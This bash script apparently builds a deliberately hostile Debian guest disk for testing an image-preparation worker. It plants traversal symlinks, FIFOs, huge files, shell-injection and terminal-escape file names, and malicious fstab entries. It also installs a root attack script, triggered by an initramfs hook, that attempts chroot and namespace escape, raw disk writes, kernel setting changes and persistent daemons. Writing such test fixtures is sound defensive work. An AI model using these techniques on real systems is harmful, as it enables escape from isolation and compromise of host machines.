#!/bin/bash
# Makes a Debian guest's disk hostile to whoever prepares it. Usage: hostile-guest.sh DISK MAJOR:MINOR...
# The numbers are those of devices that the worker has for itself.
set -euo pipefail
disk=$1 point=$(mktemp -d)
shift
mount -o loop,offset=1048576 "$disk" "$point"
trap 'cd /; umount "$point"; rmdir "$point"' EXIT
cd "$point"
up=/../../../../../../../../../..
# Files that a preparation writes, as links out of the guest; each would be made on the worker.
mkdir -p etc/cloud/cloud.cfg.d srv
ln -s "$up/srv/written-by-guest" etc/cloud/cloud.cfg.d/99_causeway.cfg
rm -f etc/resolv.conf
ln -s "$up/srv/no/such/folder/resolv.conf" etc/resolv.conf
mkdir -p var/lib/cloud
ln -s "$up/srv/worker" var/lib/cloud/instances
ln -s "$up/srv" var/lib/causeway
printf '%s\n' "$@" > srv/worker-disks
# Files that a preparation reads: endless, huge, no files at all, or the worker's own.
rm -f etc/os-release
truncate -s 1G etc/os-release
truncate -s 1T etc/huge
mkfifo etc/pipe etc/cloud/cloud.cfg.d/50-pipe.cfg
ln -s /etc/pipe etc/hostname-link
rm -f etc/hostname
ln -s "$up/srv/worker/secret" etc/hostname
ln -s loop-b etc/loop-a
ln -s loop-a etc/loop-b
previous=/srv/worker/secret
for number in $(seq 1 41); do ln -s "$previous" "etc/chain-$number"; previous="chain-$number"; done
mkdir -p root/.ssh
ln -sf "$up/srv/worker/secret" root/.ssh/authorized_keys
mknod etc/zero c 1 5
mknod etc/disk b 7 0
# Names that a terminal or a line-wise reader takes for something else.
touch "etc/$(printf 'two\nlines')" "etc/$(printf '\033[2J\033]0;owned\007')" "etc/$(printf 'not-utf8-\377\376')" 'etc/$(touch srv-by-shell)' 'etc/-rf' 'etc/;reboot'
# File systems elsewhere, and on devices of the worker.
cat >> etc/fstab <<LINES
/dev/loop0 /opt ext4 defaults,nofail 0 0
/etc /boot none bind,nofail 0 0
/dev/sdz1 $up/etc ext4 defaults,nofail 0 0
UUID=11111111-2222-4333-8444-555555555555 $up/srv/worker ext4 defaults,nofail 0 0
UUID=11111111-2222-4333-8444-555555555555 /var/../../../../srv/worker ext4 defaults,nofail 0 0
$(printf '\\040\\134\\011 /usr/\\012x ext4 nofail 0 0')
LINES
printf 'x%.0s' $(seq 1 65000) >> etc/fstab
echo >> etc/fstab
# What a package's script could try, as root in the guest. Each line of the log is an attempt that worked.
cat > usr/local/sbin/attack <<'ATTACK'
#!/bin/bash
exec 2>/dev/null </dev/null
log=/srv/attack.log
worked() { echo "$*" >> $log; }
worked "ran as $(id -u) with process $$"
for disk in $(cat /srv/worker-disks); do
  name=/srv/node-$RANDOM
  mknod $name b ${disk%:*} ${disk#*:} && { head -c 1 $name > /dev/null && worked "read disk $disk"; echo owned > $name && worked "wrote disk $disk"; }
done
for node in /dev/sd* /dev/vd* /dev/nvme* /dev/mem /dev/kmem /dev/port /dev/mapper/control /dev/loop-control /dev/fuse /dev/kmsg; do
  [ -e "$node" ] && : > "$node" && worked "opened $node"
done
mount -t tmpfs none /etc && worked 'mounted a tmpfs'
mount --bind /srv /etc && worked 'bound a folder'
mount -o remount,rw /sys && worked 'remounted /sys'
umount -l /proc && worked 'unmounted /proc'
unshare --mount true && worked 'made a mount namespace'
nsenter --target 1 --mount --pid true && worked 'entered process 1'
ls /proc/1/root/srv/worker && worked 'saw the worker through process 1'
ls /srv/worker && worked "saw the worker's folder"
for pid in /proc/[0-9]*; do grep -qa 'sshd\|causeway_agent' $pid/cmdline && worked "sees $(tr '\0' ' ' < $pid/cmdline)"; done
echo '|/bin/true' > /proc/sys/kernel/core_pattern && worked 'changed core_pattern'
echo 1 > /proc/sys/kernel/sysrq && worked 'changed sysrq'
[ -w /proc/sysrq-trigger ] && : >> /proc/sysrq-trigger && worked 'opened sysrq-trigger'
find /sys -maxdepth 3 -name uevent -exec sh -c 'echo change > "$1"' - {} \; -quit && touch /sys/x && worked 'wrote to /sys'
modprobe dummy && worked 'loaded a module'
hostname owned-by-guest && [ -e /srv/same-uts ] && worked 'changed the name of the worker'
date -s '2001-01-01' && worked 'set the clock'
python3 - <<'PY' && worked 'left its root'
import os, sys
os.mkdir('/srv/inner')
held = os.open('/', os.O_RDONLY)
os.chroot('/srv/inner')
os.fchdir(held)
for _ in range(60):
    os.chdir('..')
os.chroot('.')
sys.exit(0 if os.path.exists('/srv/worker/secret') else 1)
PY
for target in /run /dev/shm /tmp; do echo owned > $target/left-by-guest; done
ln -sfn / /run/lock/out
( setsid sh -c 'while :; do sleep 1; date >> /srv/daemon.log; done' & ) 
( trap '' TERM HUP INT; setsid sleep 100000 & )
ATTACK
chmod 755 usr/local/sbin/attack
# Runs as root whenever the initial RAM disk is built.
cat > etc/initramfs-tools/hooks/hostile <<'HOOK'
#!/bin/sh
[ "$1" = prereqs ] && exit 0
/usr/local/sbin/attack
printf 'hook \033]0;owned\007\033[2J done\n'
exit 0
HOOK
chmod 755 etc/initramfs-tools/hooks/hostile
